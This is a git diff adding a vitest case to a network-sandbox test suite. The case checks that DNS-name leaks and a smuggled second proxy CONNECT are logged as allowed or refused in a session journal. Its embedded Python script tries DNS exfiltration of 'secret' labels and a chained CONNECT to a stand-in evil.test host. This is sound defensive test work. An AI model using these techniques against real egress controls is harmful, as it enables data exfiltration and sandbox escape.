@@ -1,5 +1,6 @@
 import { once } from "node:events";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { listSessions, readJournal, verifyJournal } from "../../src/index.ts";
 import type { Person, Result } from "../stage/index.ts";
 import { noWorld, World } from "../stage/world.ts";
 import type { Heard } from "../stage/world.ts";
@@ -61,6 +62,30 @@ describe.skipIf(noWorld !== null)("attacks on the door", () => {
       stage.remove();
       expect(heard).toEqual([]);
       expect(allowed).toContainEqual(expect.objectContaining({ kind: "http", host: "good.test" }));
+    });
+
+    it("N08, N42: what left in names, and by way of another proxy, stands in the journal", async () => {
+      const stage = world.stage(person);
+      const script = `${PRELUDE}
+for n in range(40): plain(b"s3cret%d.wild.test" % n)
+try: socket.getaddrinfo("s3cret.evil.test", 80)
+except OSError: pass
+tunnel(b"good.test:8080"); say(b"CONNECT good.test:8080 HTTP/1.1\\r\\nHost: good.test:8080\\r\\n\\r\\nCONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n")`;
+      const words = ["--allow-domain", "*.wild.test", "--allow-domain", "good.test:8080", "--"];
+      const [heard] = await world.hearing(() => stage.run([...words, "python3", "-c", script], { timeout: 60_000 }));
+      const asked = new Set(heard.flatMap((each) => (each.kind === "dns" ? [each.name] : [])));
+      const [{ journal } = { journal: "" }] = listSessions(new Map([["HOME", stage.home]]));
+      expect(verifyJournal(journal)).toMatchObject({ status: "ok", closed: true });
+      const told = [...readJournal(journal)].filter(({ kind }) => kind.startsWith("network."));
+      const targets = (kind: string): readonly unknown[] =>
+        told.flatMap((event) => (event.kind === kind ? [event.members.get("target")] : []));
+      expect(asked.size).toBeGreaterThan(30);
+      expect(targets("network.allowed")).toEqual(
+        expect.arrayContaining([...asked].map((name) => `${name}:${name === "good.test" ? 8080 : 80}`)),
+      );
+      expect(targets("network.refused")).toEqual(expect.arrayContaining(["s3cret.evil.test:0", "good.test:8080"]));
+      expect(targets("network.allowed")).not.toContain("s3cret.evil.test:0");
+      stage.remove();
     });
 
     it("N51: hundreds of clients that say nothing keep nobody from the door", () => {
